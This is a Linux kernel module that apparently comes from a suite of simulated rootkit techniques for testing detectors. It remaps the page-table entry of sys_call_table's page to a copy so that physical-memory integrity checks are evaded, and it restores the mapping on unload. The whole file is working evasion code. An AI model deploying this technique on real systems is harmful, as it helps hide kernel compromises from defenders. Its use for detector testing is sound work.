// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the page of sys_call_table is replaced by a copy, in the page tables alone: the original stays as it was.
 * Who: rootkits that want to pass checks of the table's physical memory (Shadow Walker's idea).
 * Changes: one entry of the kernel's page tables; a 2 MiB mapping is split for it. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/pgtable.h>
#include <linux/ctype.h>
#include <linux/io.h>
#include <linux/smp.h>

KERNEL_SYMBOL(sys_call_table);

static pte_t *entry, original;
static struct page *copy, *table;

static void flush(void *unused)
{
	/* A new CR3 does not flush global pages; turning PGE off and on does. */
	unsigned long cr4;

	asm volatile("mov %%cr4, %0" : "=r"(cr4));
	asm volatile("mov %0, %%cr4" : : "r"(cr4 ^ 0x80UL) : "memory");
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

static void set_entry(pte_t value)
{
	WRITE_ONCE(*entry, value);
	on_each_cpu(flush, NULL, 1);
}

static int __init start(void)
{
	/* Where the table has no name, other read-only data that does. */
	unsigned long page = (sys_call_table_at ? sys_call_table_at : (unsigned long)_ctype) & PAGE_MASK;
	unsigned int level, i;

	entry = lookup_address(page, &level);
	copy = alloc_page(GFP_KERNEL);
	if (!entry || !copy || level > PG_LEVEL_2M)
		return -ENOMEM;
	memcpy(page_address(copy), (void *)page, PAGE_SIZE);
	original = *entry;
	if (level == PG_LEVEL_4K) {
		set_entry(__pte((pte_val(original) & ~PTE_PFN_MASK) | page_to_phys(copy)));
		return 0;
	}
	table = alloc_page(GFP_KERNEL);
	if (!table)
		return -ENOMEM;
	for (i = 0; i < PTRS_PER_PTE; ++i) {
		pteval_t first = pte_val(original) & PTE_PFN_MASK & PMD_MASK;
		pteval_t frame = i == pte_index(page) ? page_to_phys(copy) : first + i * PAGE_SIZE;

		((pteval_t *)page_address(table))[i] =
			frame | (pte_val(original) & ~PTE_PFN_MASK & ~(pteval_t)_PAGE_PSE);
	}
	set_entry(__pte(page_to_phys(table) | _PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED));
	return 0;
}

static void __exit stop(void)
{
	set_entry(original);
	__free_page(copy);
	if (table)
		__free_page(table);
}

ATTACK(start, stop);
